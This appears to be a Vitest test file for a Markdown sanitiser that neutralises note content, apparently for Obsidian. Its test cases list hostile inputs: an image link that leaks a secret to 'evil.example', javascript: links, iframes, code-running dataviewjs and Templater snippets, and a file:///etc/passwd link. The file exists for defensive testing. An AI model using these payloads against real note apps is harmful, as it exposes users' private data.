import fc from 'fast-check'
import { expect, test } from 'vitest'
import { harm } from './fixtures/harm.ts'
import { neutralise } from './neutralise.ts'

test.each([
  ['```dataviewjs\nalert(1)\n```', '```text\nalert(1)\n```'],
  ['```dataview\nLIST\n```', '```text\nLIST\n```'],
  [
    "~~~tasks\nfilter by function require('child_process')\n~~~",
    "~~~text\nfilter by function require('child_process')\n~~~",
  ],
  ['```button\nname x\n```', '```text\nname x\n```'],
  ['```js-engine\nx\n```', '```text\nx\n```'],
  ['```run-python\nx\n```', '```text\nx\n```'],
  ['```meta-bind\nx\n```', '```text\nx\n```'],
  ['```mermaid\nclick a href "javascript:alert(1)"\n```', '```text\nclick a href "javascript:alert(1)"\n```'],
  ['- a\n  ```dataviewjs\n  x\n  ```', '- a\n  ```text\n  x\n  ```'],
  ['> 1. ```tasks\n> x', '> 1. ```text\n> x'],
  ['```{dataviewjs}\nx\n```', '```text\nx\n```'],
  ['```json\n{"a": "<b>"}\n```', '```json\n{"a": "<b>"}\n```'],
  ['```\nopen', '```\nopen\n```'],
])('fence %j loses its language', (hostile, inert) => {
  expect(neutralise(hostile)).toBe(inert)
})

test.each([
  ['<% tp.system.prompt() %>', '&lt;% tp.system.prompt() %>'],
  ['`<%* evil %>`', '`&lt;%* evil %>`'],
  ['\\<% x %>', '&lt;% x %>'],
  ['```\n<% x %>\n```', '```\n&lt;% x %>\n```'],
  ['`$= dv.pages()`', '`\u200b$= dv.pages()`'],
  ['`= this.file.name`', '`\u200b= this.file.name`'],
  ['`` = x``', '`` \u200b= x``'],
  ['`INPUT[text:x]`', '`\u200bINPUT[text:x]`'],
  ['key:: value', 'key:\\: value'],
  ['%% inkwell:end summary %%', '&#37;&#37; inkwell:end summary &#37;&#37;'],
  ['`%% inkwell:end x %%`', '`% % inkwell:end x %%`'],
  ['![[Passwords]] and [[../../Private]]', '\\[\\[Passwords]] and \\[\\[../../Private]]'],
  ['![](http://evil.example/?q=SECRET)', '[image](http://evil.example/?q=SECRET)'],
  ['!![alt](http://evil.example/x.png)', '! [alt](http://evil.example/x.png)'],
  ['![a][ref]\n\n[ref]: http://evil.example/x.png', '[a][ref]\n\n[ref]\\: http://evil.example/x.png'],
  ['[![]]', '[ [image]]'],
  ['www.a.example\\<iframe src=x>', 'www.a.example&lt;iframe src=x>'],
  ['[x](obsidian://open?vault=v)', '[x]\\(obsidian\\://open?vault=v)'],
  ['[x](file:///etc/passwd)', '[x]\\(file\\:///etc/passwd)'],
  ['[x](java&#115;cript:alert(1))', '[x]\\(java&#115;cript:alert(1))'],
  ['[x](<javascript:alert(1)>)', '[x]\\(&lt;javascript:alert(1)>)'],
  ['[x](https://user:pw@host.example/)', '[x]\\(https://user:pw@host.example/)'],
  ['<obsidian://open>', '&lt;obsidian\\://open>'],
  ['<iframe src="http://x"></iframe>', '&lt;iframe src="http://x">&lt;/iframe>'],
  ['<audio autoplay src=http://x>', '&lt;audio autoplay src=http://x>'],
  ['<!-- hidden -->', '&lt;!-- hidden -->'],
  ['<br>\n```\n<iframe>\n```', '&lt;br>\n```\n<iframe>\n```'],
  ['a #tag and ^block', 'a \\#tag and \\^block'],
  ['$$\\def\\x{y}$$', '\\$\\$\\def\\x{y}\\$\\$'],
  ['pay \u202eetsap\u202c', 'pay ⟨U+202E⟩etsap⟨U+202C⟩'],
  ['[^1]: note', '\\[\\^1]\\: note'],
])('%j does nothing', (hostile, inert) => {
  expect(neutralise(hostile)).toBe(inert)
})

test.each([
  '## Heading\n\n- one\n- [ ] two\n\n> quote — *Ada*, **bold**, ~~gone~~, ==marked==',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  'In `<div>` and `a && b` it costs $10, 5 < 6, C# and 50 %.',
  '[page](https://tides.example/a?b=c) and [41:12](#t=2472), <https://tides.example/>',
  'water H<sub>2</sub>O, a line<br>and another',
  '[Wikipedia](https://en.wikipedia.org/wiki/Tide_%28disambiguation%29)',
  '1. first\n2. second\n\n---\n\nA 12:30 appointment, 100%.',
])('%j stays as it is', (markdown) => {
  expect(neutralise(markdown)).toBe(markdown)
})

test('the check itself finds harm', () => {
  expect(harm('<iframe>')).not.toEqual([])
  expect(harm('![](http://x.example)')).not.toEqual([])
  expect(harm('[x](javascript:y)')).not.toEqual([])
  expect(harm('```tasks\n```')).not.toEqual([])
  expect(harm('`$= x`')).not.toEqual([])
})

test.each([
  ['a formula', '$`$ <iframe src=x> ` y'],
  ['two lines', 'a ` b\n<iframe src=x> ` c'],
  ['a table cell', '| ` | <iframe src=x> ` |\n|---|---|\n| ` | <iframe src=x> ` |'],
  ['a half escaped run', '\\`` <iframe src=x> `'],
  ['a comment', '%%`%% <iframe src=x> ` y'],
  ['an address', '<https://a/`> <iframe src=x> `'],
  ['a bare address', 'https://a.example/` <iframe src=x> ` y'],
  ['a bare host', 'www.example.com/` <iframe src=x> ` y'],
  ['a title', '[a](http://a.example "`") <iframe src=x> `'],
  ['a fence in a list', '- ```\n<iframe src=x>'],
  ['a fence that a list ends', '- a\n  ```\n  x\n```\n<iframe src=x>\n```\n<iframe src=x>'],
  ['a fence that a quotation ends', '> ```\n<iframe src=x>\n> ```\n<iframe src=x>'],
  ['a closing fence that is indented', '```\n   ```\n<iframe src=x>'],
  ['a longer fence', '````\n```\n````\n<iframe src=x>'],
])('backticks that readers may pair otherwise: %s', (_name, hostile) => {
  expect(harm(neutralise(hostile))).toEqual([])
})

const pieces = fc.array(
  fc.constantFrom(
    ...[
      '`',
      '``',
      '```',
      '~~~',
      '\n',
      '\n\n',
      '> ',
      '- ',
      '  ',
      '    ',
      '\t',
      '\\',
      '!',
      '[',
      '](',
      ')',
      '[[',
      ']]',
      ']:',
    ],
    ...[
      '<',
      '<%',
      '%>',
      '<iframe src=x>',
      '<br>',
      '</sub>',
      '<!--',
      '%%',
      '%',
      ' inkwell:',
      '$',
      '$=',
      '=',
      '&lt;',
      '"',
      '(',
    ],
    ...[
      'dataviewjs',
      'tasks',
      'http://a.example/',
      'www.a.example',
      'obsidian://x',
      'javascript:x',
      '#t=12',
      '#tag',
      ':',
      '::',
    ],
    ...['^', 'text', ' ', '|', '\u202e', '<https://a/>', '1. ', '|-|-|', '---', '* ', '_'],
  ),
  { maxLength: 40 },
)
test('anything put together from dangerous pieces does nothing, and twice is the same as once', () => {
  fc.assert(
    fc.property(pieces, (parts) => {
      const once = neutralise(parts.join(''))
      expect(harm(once)).toEqual([])
      expect(neutralise(once)).toBe(once)
    }),
    { numRuns: 4_000, seed: 7 },
  )
})

test.each([
  '[',
  '](',
  '`',
  '`a``b',
  '> ',
  '<',
  '<b',
  '![',
  '](a "',
  '**',
  '%%',
  '<%',
  '\n```\n',
  '$',
  ' ',
  '\\',
  'http://`',
])('takes no more than linear time for %j again and again', (piece) => {
  expect(neutralise(`\`${piece.repeat(Math.floor(400_000 / piece.length))}`)).not.toMatch(/<%/)
})

test('cuts what is too long', () => {
  expect(neutralise('x'.repeat(5_000_000)).length).toBeLessThan(1_048_700)
})
